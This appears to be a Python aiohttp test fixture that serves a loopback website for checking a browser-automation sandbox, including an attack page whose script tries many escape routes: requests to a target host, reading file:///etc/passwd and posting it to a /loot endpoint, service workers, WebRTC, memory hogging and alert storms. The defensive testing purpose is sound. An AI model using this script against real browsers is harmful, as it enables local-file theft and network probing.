"""A web site on loopback with all that people do on one, and a page that tries every way out of the browser."""

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field

from aiohttp import web

PAGES = {
    "/login": "<h1>Log in</h1><form method=post action=/session><input name=user aria-label=Name>"
    "<input name=password type=password aria-label=Password><button>Log in</button></form>",
    "/form": "<title>Order</title><form method=post action=/echo><label>Dish <input name=dish></label><label>Size "
    "<select name=size><option>small<option>large</select></label><label><input type=checkbox name=spicy>Spicy</label>"
    "<textarea name=notes aria-label=Notes></textarea><button>Order</button></form>",
    "/uploads": "<form method=post action=/echo enctype=multipart/form-data>"
    "<input type=file name=paper id=paper hidden>"
    "<button type=button onclick='paper.click()'>Choose a paper</button><button>Hand in</button></form>",
    "/files": "<a href=/report>Report</a> <a href=/endless-file>Endless</a> <a href=/elsewhere>Away</a>",
    "/away": "<a href=http://elsewhere.example/x>Away</a>",
    "/tabs": "<title>First</title><a href=/form target=_blank>New tab</a>",
    "/dialogs": "<script>const say = text => document.querySelector('p').textContent = text</script><p>nothing</p>"
    "<button onclick=\"alert('Hello'); say('greeted')\">Alert</button>"
    "<button onclick=\"say(confirm('Delete all?') ? 'deleted' : 'kept')\">Confirm</button>"
    "<button onclick=\"say('Hi ' + prompt('Who?'))\">Prompt</button>",
    "/frames": "<p>outside</p><iframe src=/form></iframe>",
    "/shadow": "<div id=host></div><script>const root = host.attachShadow({mode: 'open'});"
    "root.innerHTML = '<label>Secret place <input></label><button>Inside</button>';"
    "root.querySelector('button').onclick = () => document.title = root.querySelector('input').value</script>",
    "/app": "<div id=root></div><script>const show = html => root.innerHTML = html;"
    "const go = async path => { history.pushState({}, '', path); show('Loading');"
    "const found = await (await fetch('/api' + path)).json(); show('<h2>' + found.title + '</h2>' +"
    " '<button onclick=\"go(\\'/things/' + (found.id + 1) + '\\')\">Next thing</button>') }; go('/things/1')</script>",
    "/many": "<title>Many</title>"
    + "".join(
        f"<section><p>Row {n}</p><a href=/n/{n}>Link {n}</a><button>Do {n}</button></section>" for n in range(500)
    ),
    "/covered": "<button>Below</button><div style='position:fixed;inset:0;background:white'>Cookies!</div>",
    "/leaves": "<script>location = 'http://127.0.0.9:' + location.port + '/secret'</script>",
    "/hog": "<script>const kept = []; setInterval(() => kept.push(new Uint8Array(2e8).fill(1)), 1)</script>",
    "/storm": "<script>for (;;) alert('again')</script>",
    "/attack": "<title>waiting</title><script src=/attack.js></script>",
}
ATTACK = """
const target = new URLSearchParams(location.search).get('target'), at = 'http://' + target;
const add = (kind, more) => document.documentElement.append(Object.assign(document.createElement(kind), more));
const steal = text => fetch('/loot', {method: 'POST', body: text});
const attempts = {
    fetch: () => fetch(at + '/fetch', {mode: 'no-cors'}),
    redirect: () => fetch('/to?' + at + '/redirect', {mode: 'no-cors'}),
    xhr: () => { const one = new XMLHttpRequest(); one.open('GET', at + '/xhr'); one.send() },
    beacon: () => navigator.sendBeacon(at + '/beacon', 'x'),
    events: () => new EventSource(at + '/events'),
    socket: () => new WebSocket('ws://' + target + '/socket'),
    image: () => add('img', {src: at + '/image'}),
    style: () => add('link', {rel: 'stylesheet', href: at + '/style'}),
    script: () => add('script', {src: at + '/script'}),
    frame: () => add('iframe', {src: at + '/frame'}),
    framed_redirect: () => add('iframe', {src: '/to?' + at + '/framed_redirect'}),
    prefetch: () => add('link', {rel: 'prefetch', href: at + '/prefetch'}),
    preconnect: () => add('link', {rel: 'preconnect', href: at}),
    video: () => add('video', {src: at + '/video', preload: 'auto'}),
    object: () => add('object', {data: at + '/object'}),
    form: () => { add('iframe', {name: 'into'});
        add('form', {action: at + '/form', method: 'post', target: 'into'}); document.querySelector('form').submit() },
    worker: () => new Worker(URL.createObjectURL(new Blob([`fetch('${at}/worker', {mode: 'no-cors'})`]))),
    service: async () => { await navigator.serviceWorker.register('/service.js?' + target);
        (await navigator.serviceWorker.ready).active.postMessage('go') },
    transport: () => new WebTransport('https://' + target + '/transport'),
    rtc: async () => {
        const urls = ['stun:' + target, 'turn:' + target, 'turn:' + target + '?transport=tcp'];
        const one = new RTCPeerConnection({iceServers: [{urls, username: 'x', credential: 'y'}]});
        one.createDataChannel('x'); await one.setLocalDescription(await one.createOffer()) },
    file: async () => steal('file ' + await (await fetch('file:///etc/passwd')).text()),
    file_frame: () => { add('iframe', {src: 'file:///etc/passwd', id: 'inside', onload: () =>
        { try { steal('frame ' + inside.contentDocument.body.innerText) } catch {} }}) },
    chrome: () => window.open('chrome://version') || 0,
    file_window: () => window.open('file:///etc/passwd') || 0,
};
(async () => {
    for (const attempt of Object.values(attempts)) { try { await attempt() } catch {} }
    setTimeout(() => { document.title = 'tried all' }, 2000);
})();
"""
SERVICE = """
self.onmessage = () => fetch('http://' + location.search.slice(1) + '/service', {mode: 'no-cors'});
self.onactivate = event => event.waitUntil(clients.claim());
"""


@dataclass
class Site:
    port: int = 0
    asked: list[str] = field(default_factory=list)
    posted: list[dict[str, str]] = field(default_factory=list)

    def url(self, path: str, host: str = "127.0.0.1") -> str:
        return f"http://{host}:{self.port}{path}"

    async def answer(  # noqa: C901 one line for each page
        self, request: web.Request
    ) -> web.StreamResponse:
        self.asked.append(request.path)
        if request.path in PAGES:
            return _page(PAGES[request.path])
        match request.path:
            case "/attack.js" | "/service.js":
                script = ATTACK if request.path == "/attack.js" else SERVICE
                return web.Response(text=script, content_type="text/javascript")
            case "/to":
                raise web.HTTPFound(request.query_string)
            case "/loot":
                self.posted.append({"loot": await request.text()})
            case "/session" if dict(await request.post()) == {"user": "ann", "password": "open sesame"}:
                answer = web.HTTPFound("/account")
                answer.set_cookie("session", "ann", max_age=3_600)
                raise answer
            case "/account":
                who = request.cookies.get("session")
                return _page(f"<h1>Hello {who}</h1>") if who else web.Response(status=401, text="Who are you?")
            case "/wall":
                return web.Response(status=401, text="Members only")
            case "/echo":
                return await self._echo(request)
            case "/bare-error":
                return web.Response(status=403)
            case "/report":
                return web.Response(
                    body=b"%PDF-1.4 report", headers={"Content-Disposition": "attachment;filename=a.pdf"}
                )
            case "/endless-file":
                return await _write_without_end(request)
            case "/elsewhere":
                raise web.HTTPFound(self.url("/secret", "127.0.0.9"))
        if not request.path.startswith("/api/things/"):
            raise web.HTTPNotFound
        number = int(request.path.rpartition("/")[2])
        return web.json_response({"id": number, "title": f"Thing {number}"})

    async def _echo(self, request: web.Request) -> web.Response:
        fields = {}
        for name, value in (await request.post()).items():
            fields[name] = str(value)
            if isinstance(value, web.FileField):
                fields[name] = f"{value.filename}: {str(value.file.read(), 'utf-8')}"
        self.posted.append(fields)
        return _page(f"<h1>Thanks</h1><p>{fields}</p>")


def _page(body: str) -> web.Response:
    return web.Response(text=f"<!doctype html>{body}", content_type="text/html")


async def _write_without_end(request: web.Request) -> web.StreamResponse:
    answer = web.StreamResponse(headers={"Content-Disposition": "attachment;filename=endless.bin"})
    await answer.prepare(request)
    try:
        while True:
            await answer.write(b"0" * 100_000)
    except ConnectionError:  # the browser has had enough
        return answer


@asynccontextmanager
async def open_site() -> AsyncIterator[Site]:
    site = Site()
    app = web.Application(client_max_size=50_000_000)
    app.router.add_route("*", "/{any:.*}", site.answer)
    runner = web.AppRunner(app, shutdown_timeout=0.1)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    site.port = runner.addresses[0][1]
    try:
        yield site
    finally:
        await runner.cleanup()
